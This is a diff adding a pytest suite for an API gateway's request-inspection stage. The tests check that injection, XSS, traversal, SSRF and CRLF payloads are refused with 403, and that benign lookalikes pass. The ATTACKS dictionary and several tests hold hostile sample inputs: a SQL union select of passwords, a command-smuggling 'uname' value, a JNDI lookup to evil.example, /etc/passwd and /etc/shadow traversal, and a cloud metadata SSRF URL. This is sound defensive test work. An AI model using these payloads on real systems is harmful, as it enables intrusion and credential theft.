@@ -1,0 +1,392 @@
+"""The inspect stage: injection, SSRF and path tricks in request values.
+
+Every detector is tried in every place it reads (path segments, query
+names and values, configured headers, cookies, form fields, JSON strings
+and member names) and must refuse with 403 and its own reason code,
+naming the location and the detector and never the value. Lookalikes
+that are ordinary text must pass. Then: narrowing by a contract's
+schema, allow entries, log mode, weak findings adding up, the one-line
+`apiward proxy --inspect`, a reload that changes the block, and events
+that carry no more of a payload than their excerpt.
+
+Every attack carries a sentinel, which no problem document and no event
+may contain."""
+
+import json
+import os
+import urllib.parse
+
+import pytest
+
+from harness import assert_problem, echo_handler, free_port, wait_for
+
+SENTINEL = "Zq9SENTINELx7"
+JSON = [("Content-Type", "application/json")]
+FORM = [("Content-Type", "application/x-www-form-urlencoded")]
+
+# One attack per detector, each ending in the sentinel where the
+# grammar allows it.
+ATTACKS = {
+    "sqli": "1' union select password from users-- " + SENTINEL,
+    "xss": "<script>alert('" + SENTINEL + "')</script>",
+    "cmdi": "x; uname -a #" + SENTINEL,
+    "template": "${jndi:ldap://evil.example/" + SENTINEL + "}",
+    "traversal": "../../../../etc/passwd?" + SENTINEL,
+    "ldap": "*)(uid=*))(|(uid=" + SENTINEL,
+    "ssrf": "http://169.254.169.254/latest/" + SENTINEL,
+    "crlf": "x\r\nSet-Cookie: session=" + SENTINEL,
+}
+
+# In a path a '/' would end the segment (and %2F is refused first).
+PATH_XSS = "<svg onload=alert('" + SENTINEL + "')>"
+
+BENIGN = [
+    "O'Brien",
+    "Select Medical Center",
+    "Please select the items you want and drop the rest; or order by "
+    "phone",
+    "https://www.example.com/about?lang=en",
+    "Tom & Jerry <3",
+    "50% off, today only",
+]
+
+
+def q(s):
+    return urllib.parse.quote(s, safe="")
+
+
+def routes(**extra):
+    route = {"name": "api", "path": "/", "prefix": True, "upstream": "demo"}
+    route.update(extra)
+    return [route,
+            {"name": "health", "path": "/health", "upstream": "demo",
+             "inspect": "off"}]
+
+
+def start(gateways, upstreams, tmp_path, inspect=None, route=None,
+          **more):
+    up = upstreams(echo_handler)
+    events = tmp_path / "events.log"
+    kw = dict(routes=routes(**(route or {})), events={"file": str(events)})
+    if inspect is not None:
+        kw["inspect"] = inspect
+    kw.update(more)
+    gw = gateways([up.addr], **kw)
+    gw.events_path = str(events)
+    return gw, up
+
+
+@pytest.fixture
+def env(gateways, upstreams, tmp_path):
+    return start(gateways, upstreams, tmp_path, inspect={"mode": "block"})
+
+
+def read_events(gw):
+    try:
+        with open(gw.events_path) as f:
+            return [json.loads(x) for x in f if x.strip()]
+    except OSError:
+        return []
+
+
+def finding_events(gw, n=1):
+    return wait_for(lambda: [e for e in read_events(gw)
+                             if e["event"]["action"] == "inspect.finding"]
+                    if len([e for e in read_events(gw)
+                            if e["event"]["action"] == "inspect.finding"])
+                    >= n else None, 3, what="%d inspect events" % n)
+
+
+def send(gw, method, target, headers=None, body=None):
+    with gw.client() as c:
+        c.request(method, target, headers or [], body)
+        return c.read_response()
+
+
+def refused(resp, detector, location):
+    doc = assert_problem(resp, 403, "inspect." + detector)
+    assert doc["detector"] == detector, doc
+    assert doc["location"] == location, doc
+    assert SENTINEL.encode() not in resp.body, resp.body
+    return doc
+
+
+@pytest.mark.parametrize("detector", sorted(ATTACKS))
+def test_query_values(env, detector):
+    gw, up = env
+    refused(gw.get("/search?x=1&q=" + q(ATTACKS[detector])), detector,
+            "query:q")
+    assert up.count() == 0
+
+
+@pytest.mark.parametrize("detector", ["sqli", "xss", "cmdi", "template",
+                                      "ldap", "ssrf"])
+def test_form_fields(env, detector):
+    gw, up = env
+    body = ("a=1&comment=" + q(ATTACKS[detector])).encode()
+    refused(send(gw, "POST", "/post", FORM, body), detector, "form:comment")
+    assert up.count() == 0
+
+
+@pytest.mark.parametrize("detector", ["sqli", "xss", "cmdi", "template",
+                                      "ldap", "ssrf", "crlf"])
+def test_json_strings(env, detector):
+    gw, up = env
+    doc = {"user": {"tags": ["ok", ATTACKS[detector]]}}
+    refused(send(gw, "POST", "/post", JSON, json.dumps(doc).encode()),
+            detector, "json:/user/tags/1")
+    assert up.count() == 0
+
+
+def test_json_traversal_and_nosql(env):
+    gw, up = env
+    doc = {"file": "../../../../etc/shadow"}
+    refused(send(gw, "POST", "/p", JSON, json.dumps(doc).encode()),
+            "traversal", "json:/file")
+    doc = {"login": {"user": "admin", "password": {"$ne": SENTINEL}}}
+    refused(send(gw, "POST", "/p", JSON, json.dumps(doc).encode()),
+            "nosql", "json:/login/password/$ne")
+    refused(gw.get("/p?password%5B%24ne%5D=" + SENTINEL), "nosql",
+            "query:password[$ne]")
+    assert up.count() == 0
+
+
+@pytest.mark.parametrize("detector", ["sqli", "xss", "template", "cmdi"])
+def test_headers(env, detector):
+    gw, up = env
+    value = ATTACKS[detector]
+    refused(gw.get("/", headers=[("User-Agent", value)]), detector,
+            "header:user-agent")
+    refused(gw.get("/", headers=[("Referer", "https://a.example/?q=" +
+                                  q(value))]), detector, "header:referer")
+    # A field not configured is not read.
+    assert gw.get("/", headers=[("X-Other", value)]).status == 200
+
+
+@pytest.mark.parametrize("detector", ["sqli", "xss", "template",
+                                      "traversal"])
+def test_cookies(env, detector):
+    gw, up = env
+    resp = gw.get("/", headers=[("Cookie", "a=1; prefs=" +
+                                 q(ATTACKS[detector]))])
+    refused(resp, detector, "cookie:prefs")
+
+
+@pytest.mark.parametrize("detector,segment", [
+    ("traversal", "..%252f..%252f..%252fetc%252fpasswd"),
+    ("sqli", q("1' or '1'='1")),
+    ("xss", q(PATH_XSS)),
+    ("template", q("{{7*7}}")),
+])
+def test_path_segments(env, detector, segment):
+    gw, up = env
+    refused(gw.get("/files/" + segment + "/x"), detector, "path:2")
+    assert up.count() == 0
+
+
+def test_double_encoding(env):
+    gw, up = env
+    refused(gw.get("/s?q=" + q(q("' union select 1,2--"))), "sqli",
+            "query:q")
+    refused(gw.get("/s?q=" + q("&lt;script&gt;alert(1)&lt;/script&gt;")),
+            "xss", "query:q")
+
+
+@pytest.mark.parametrize("value", BENIGN)
+def test_benign_lookalikes_pass(env, value):
+    gw, up = env
+    assert gw.get("/s?q=" + q(value)).status == 200
+    doc = {"name": value, "bio": value}
+    resp = send(gw, "POST", "/p", JSON, json.dumps(doc).encode())
+    assert resp.status == 200, resp
+    assert json.loads(up.last().body) == doc
+    resp = send(gw, "POST", "/p", FORM, ("c=" + q(value)).encode())
+    assert resp.status == 200, resp
+
+
+def test_apostrophe_in_json_name(env):
+    gw, up = env
+    doc = {"O'Brien": "Conan O'Brien", "url": "https://example.com/x"}
+    resp = send(gw, "POST", "/p", JSON, json.dumps(doc).encode())
+    assert resp.status == 200, resp
+
+
+def test_route_off_and_other_bodies(env):
+    gw, up = env
+    assert gw.get("/health?q=" + q(ATTACKS["sqli"])).status == 200
+    resp = send(gw, "POST", "/p", [("Content-Type", "text/plain")],
+                ATTACKS["sqli"].encode())
+    assert resp.status == 200, resp
+
+
+def test_malformed_json_refused(env):
+    gw, up = env
+    resp = send(gw, "POST", "/p", JSON, b'{"a": ')
+    assert_problem(resp, 400, "json.syntax")
+    assert up.count() == 0
+
+
+def test_events_hold_no_more_than_the_excerpt(env):
+    gw, up = env
+    refused(gw.get("/s?q=" + q(ATTACKS["sqli"])), "sqli", "query:q")
+    # The sentinel lies past the 32 bytes an excerpt may show.
+    refused(gw.get("/a/" + q("<svg onload=alert(1)> " + "a" * 40 +
+                             SENTINEL)), "xss", "path:2")
+    evs = finding_events(gw, 2)
+    for e in evs:
+        line = json.dumps(e)
+        assert SENTINEL not in line, line
+        aw = e["apiward"]
+        assert aw["outcome"] == "denied"
+        assert aw["score"] >= 50
+        assert len(aw["excerpt"]) <= 32 * 4
+        assert e["rule"]["id"]
+    sqli = [e for e in evs if e["apiward"]["detector"] == "sqli"][0]
+    assert sqli["apiward"]["location"] == "query:q"
+    assert sqli["event"]["reason"] == "inspect.sqli"
+    entry = [e for e in gw.wait_access_entries(2)
+             if e.get("reason") == "inspect.sqli"][0]
+    assert entry["stage"] == "inspect", entry
+
+
+def test_allow_entries(gateways, upstreams, tmp_path):
+    gw, up = start(gateways, upstreams, tmp_path, inspect={
+        "allow": [{"location": "query:q", "detectors": ["xss"]},
+                  {"location": "json:/bio"},
+                  {"location": "header:Referer", "detectors": ["sqli"]},
+                  {"location": "path:3"},
+                  {"location": "form:comment"},
+                  {"location": "cookie:prefs", "detectors": ["xss"]}]})
+    assert gw.get("/s?q=" + q(ATTACKS["xss"])).status == 200
+    refused(gw.get("/s?q=" + q(ATTACKS["sqli"])), "sqli", "query:q")
+    refused(gw.get("/s?other=" + q(ATTACKS["xss"])), "xss", "query:other")
+    doc = {"bio": {"text": ATTACKS["sqli"]}, "name": "x"}
+    assert send(gw, "POST", "/p", JSON,
+                json.dumps(doc).encode()).status == 200
+    doc = {"bio2": ATTACKS["sqli"]}
+    refused(send(gw, "POST", "/p", JSON, json.dumps(doc).encode()), "sqli",
+            "json:/bio2")
+    assert gw.get("/", headers=[("Referer", ATTACKS["sqli"])]).status == 200
+    assert gw.get("/a/b/" + q(PATH_XSS)).status == 200
+    refused(gw.get("/a/" + q(PATH_XSS) + "/c"), "xss", "path:2")
+    assert send(gw, "POST", "/p", FORM,
+                ("comment=" + q(ATTACKS["cmdi"])).encode()).status == 200
+    assert gw.get("/", headers=[("Cookie", "prefs=" + q(ATTACKS["xss"]))]
+                  ).status == 200
+
+
+def test_log_mode(gateways, upstreams, tmp_path):
+    gw, up = start(gateways, upstreams, tmp_path, inspect={"mode": "log"})
+    resp = gw.get("/s?q=" + q(ATTACKS["sqli"]))
+    assert resp.status == 200, resp
+    assert up.count() == 1
+    e = finding_events(gw)[0]
+    assert e["apiward"]["outcome"] == "monitored"
+    assert e["apiward"]["location"] == "query:q"
+    assert SENTINEL not in json.dumps(e)
+    entry = gw.wait_access_entries(1)[-1]
+    assert entry["status"] == 200
+    assert entry["inspect"] == "inspect.sqli", entry
+    assert entry["inspect_location"] == "query:q", entry
+
+
+def test_weak_findings_add_up(gateways, upstreams, tmp_path):
+    # With a threshold of 150 one finding passes and two refuse.
+    gw, up = start(gateways, upstreams, tmp_path, inspect={"threshold": 150})
+    assert gw.get("/s?a=" + q(ATTACKS["sqli"])).status == 200
+    resp = gw.get("/s?a=" + q(ATTACKS["sqli"]) + "&b=" +
+                  q(ATTACKS["xss"]))
+    assert_problem(resp, 403, "inspect.sqli")
+    evs = finding_events(gw, 3)
+    assert {e["apiward"]["outcome"] for e in evs} == {"monitored",
+                                                      "denied"}
+
+
+def test_too_many_values(gateways, upstreams, tmp_path):
+    gw, up = start(gateways, upstreams, tmp_path, inspect={"max_values": 5})
+    assert gw.get("/s?a=1&b=2").status == 200
+    resp = gw.get("/s?" + "&".join("p%d=x" % i for i in range(6)))
+    assert_problem(resp, 403, "inspect.too_many_values")
+
+
+def test_detector_subset_and_route_override(gateways, upstreams,
+                                            tmp_path):
+    gw, up = start(gateways, upstreams, tmp_path,
+                   inspect={"detectors": ["sqli"]},
+                   route={"inspect": {"mode": "log"}})
+    assert gw.get("/s?q=" + q(ATTACKS["sqli"])).status == 200
+    e = finding_events(gw)[0]
+    assert e["apiward"]["detector"] == "sqli"
+    assert gw.get("/s?q=" + q(ATTACKS["xss"])).status == 200
+    assert len(finding_events(gw)) == 1
+
+
+def test_ssrf_parameters_and_pointers(gateways, upstreams, tmp_path):
+    gw, up = start(gateways, upstreams, tmp_path, inspect={
+        "detectors": ["sqli"],
+        "ssrf": {"parameters": ["callback"], "pointers": ["/webhook/url"],
+                 "internal_names": ["*.corp.example"],
+                 "schemes": ["https"]}})
+    refused(gw.get("/s?callback=" + q("http://127.0.0.1:6379/")), "ssrf",
+            "query:callback")
+    refused(gw.get("/s?callback=" + q("https://db.corp.example/")), "ssrf",
+            "query:callback")
+    refused(gw.get("/s?callback=" + q("http://www.example.com/")), "ssrf",
+            "query:callback")
+    assert gw.get("/s?callback=" + q("https://www.example.com/")
+                  ).status == 200
+    # ssrf is not among the detectors: other values are not read for it.
+    assert gw.get("/s?next=" + q("http://127.0.0.1/")).status == 200
+    doc = {"webhook": {"url": "http://[::ffff:169.254.169.254]/"}}
+    refused(send(gw, "POST", "/p", JSON, json.dumps(doc).encode()), "ssrf",
+            "json:/webhook/url")
+
+
+def test_reload_changes_the_block(gateways, upstreams, tmp_path):
+    gw, up = start(gateways, upstreams, tmp_path, inspect={"mode": "block"})
+    refused(gw.get("/s?q=" + q(ATTACKS["sqli"])), "sqli", "query:q")
+    cfg = dict(gw.config)
+    cfg["inspect"] = {"mode": "log"}
+    gw.reload(cfg)
+    wait_for(lambda: gw.get("/s?q=" + q(ATTACKS["sqli"])).status == 200, 5,
+             what="the reloaded inspect block")
+    cfg["inspect"] = {"mode": "block", "detectors": ["xss"]}
+    gw.reload(cfg)
+    wait_for(lambda: gw.get("/s?q=" + q(ATTACKS["xss"])).status == 403, 5,
+             what="the second reload")
+    assert gw.get("/s?q=" + q(ATTACKS["sqli"])).status == 200
+
+
+def test_bad_configuration_names_the_key(gateways, tmp_path, apiward_bin):
+    import subprocess
+    bad = tmp_path / "bad.yaml"
+    bad.write_text("""
+upstreams: {demo: {servers: ["127.0.0.1:1"]}}
+inspect:
+  mode: maybe
+  detectors: [sqli, rce]
+  decode_rounds: 9
+  allow: [{location: "body:x"}]
+routes: [{name: a, path: /, upstream: demo, authz: {public: true}}]
+""")
+    res = subprocess.run([apiward_bin, "check", "-c", str(bad)],
+                         capture_output=True, text=True)
+    assert res.returncode == 1
+    err = res.stdout + res.stderr
+    for key in ("inspect.mode", "inspect.detectors", "inspect.decode_rounds",
+                "inspect.allow[0].location"):
+        assert key in err, err
+
+
+def test_proxy_inspect_flag(gateways, upstreams):
+    up = upstreams(echo_handler)
+    port = free_port()
+    gw = gateways(args=["proxy", "--listen", "127.0.0.1:%d" % port,
+                        "--to", "http://%s" % up.addr, "--inspect"],
+                  port=port)
+    refused(gw.get("/s?q=" + q(ATTACKS["sqli"])), "sqli", "query:q")
+    doc = {"a": ATTACKS["xss"]}
+    refused(send(gw, "POST", "/p", JSON, json.dumps(doc).encode()), "xss",
+            "json:/a")
+    assert gw.get("/s?q=" + q("O'Brien")).status == 200
+    assert up.count() == 1
